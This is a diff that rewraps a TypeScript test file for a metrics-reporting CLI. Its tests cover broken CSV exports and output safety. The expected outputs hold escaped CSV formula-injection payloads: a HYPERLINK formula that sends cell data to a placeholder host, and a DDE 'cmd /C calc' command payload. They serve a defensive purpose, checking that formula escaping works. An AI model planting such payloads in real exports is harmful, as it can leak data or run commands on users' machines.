@@ -28,7 +28,15 @@ interface BrokenCase {
 }
 
 const { cases } = readJson<{ cases: BrokenCase[] }>('fixtures/broken/expected.json');
-const base = ['report', '--config', 'fixtures/broken/opsmetrics.config.yml', '--format', 'json', '--max-bad-rows', '100'];
+const base = [
+  'report',
+  '--config',
+  'fixtures/broken/opsmetrics.config.yml',
+  '--format',
+  'json',
+  '--max-bad-rows',
+  '100',
+];
 const work = mkdtempSync(join(tmpdir(), 'opsmetrics-broken-'));
 afterAll(() => rmSync(work, { recursive: true, force: true }));
 
@@ -68,7 +76,10 @@ describe('broken exports (fixtures/broken/expected.json)', () => {
 
   it('refuses a 50 MB field quickly, naming the file, the line and the option to raise the limit', async () => {
     const path = join(work, 'huge-field.csv');
-    writeFileSync(path, `id,created,solved,frt,team,reopens\n1,2025-11-17T09:00Z,,,"${'x'.repeat(50 * 1024 * 1024)}",0\n`);
+    writeFileSync(
+      path,
+      `id,created,solved,frt,team,reopens\n1,2025-11-17T09:00Z,,,"${'x'.repeat(50 * 1024 * 1024)}",0\n`,
+    );
     const started = Date.now();
     const result = await runCli([...base, path]);
     expect(result.code).toBe(3);
@@ -108,11 +119,42 @@ describe('output safety', () => {
   const injection = 'fixtures/broken/injection.csv';
 
   it('neutralizes formula cells in CSV output, and --no-formula-escape turns it off', async () => {
-    const result = await runCli([...base.slice(0, 3), '--format', 'csv', '--by', 'team', '--max-bad-rows', '1', injection]);
+    const result = await runCli([
+      ...base.slice(0, 3),
+      '--format',
+      'csv',
+      '--by',
+      'team',
+      '--max-bad-rows',
+      '1',
+      injection,
+    ]);
     expect(result.code, result.stderr).toBe(0);
-    const teams = result.stdout.trim().split('\n').slice(1).map((line) => line.split(',')[3] ?? '');
-    expect(teams).toEqual(expect.arrayContaining(["\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\"", "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "'＝1+1"]));
-    const raw = await runCli([...base.slice(0, 3), '--format', 'csv', '--by', 'team', '--max-bad-rows', '1', '--no-formula-escape', injection]);
+    const teams = result.stdout
+      .trim()
+      .split('\n')
+      .slice(1)
+      .map((line) => line.split(',')[3] ?? '');
+    expect(teams).toEqual(
+      expect.arrayContaining([
+        '"\'=HYPERLINK(""http://x.example/?""&A1;""click"")"',
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "'-2+3",
+        "'＝1+1",
+      ]),
+    );
+    const raw = await runCli([
+      ...base.slice(0, 3),
+      '--format',
+      'csv',
+      '--by',
+      'team',
+      '--max-bad-rows',
+      '1',
+      '--no-formula-escape',
+      injection,
+    ]);
     expect(raw.stdout).toContain('\n');
     expect(raw.stdout).toMatch(/,@SUM\(1\+1\),/);
   });
@@ -146,14 +188,31 @@ describe('output safety', () => {
   });
 
   it('strips control characters from the terminal table', async () => {
-    const result = await runCli([...base.slice(0, 3), '--format', 'table', '--by', 'team', '--max-bad-rows', '1', injection]);
+    const result = await runCli([
+      ...base.slice(0, 3),
+      '--format',
+      'table',
+      '--by',
+      'team',
+      '--max-bad-rows',
+      '1',
+      injection,
+    ]);
     expect(result.code).toBe(0);
     expect(result.stdout).not.toMatch(/[\u001b\u0007\r]/);
     expect(result.stdout).toContain('Esc');
   });
 
   it('--excel writes a BOM and CRLF, and --output-delimiter ";" suits European Excel', async () => {
-    const result = await runCli([...base.slice(0, 3), '--format', 'csv', '--excel', '--output-delimiter', ';', 'fixtures/broken/utf8-bom.csv']);
+    const result = await runCli([
+      ...base.slice(0, 3),
+      '--format',
+      'csv',
+      '--excel',
+      '--output-delimiter',
+      ';',
+      'fixtures/broken/utf8-bom.csv',
+    ]);
     expect(result.code, result.stderr).toBe(0);
     expect(result.stdout.startsWith('\uFEFFperiod;period_start;')).toBe(true);
     expect(result.stdout.split('\r\n').length).toBe(3);
@@ -167,7 +226,14 @@ describe('output safety', () => {
     expect(result.code).toBe(3);
     expect(existsSync(output)).toBe(false);
     expect(readdirSync(dir)).toEqual([]);
-    const fatal = await runCli([...base.slice(0, 3), '-o', output, '--max-bad-rows', '9', 'fixtures/broken/unclosed-quote.csv']);
+    const fatal = await runCli([
+      ...base.slice(0, 3),
+      '-o',
+      output,
+      '--max-bad-rows',
+      '9',
+      'fixtures/broken/unclosed-quote.csv',
+    ]);
     expect(fatal.code).toBe(3);
     expect(readdirSync(dir)).toEqual([]);
   });
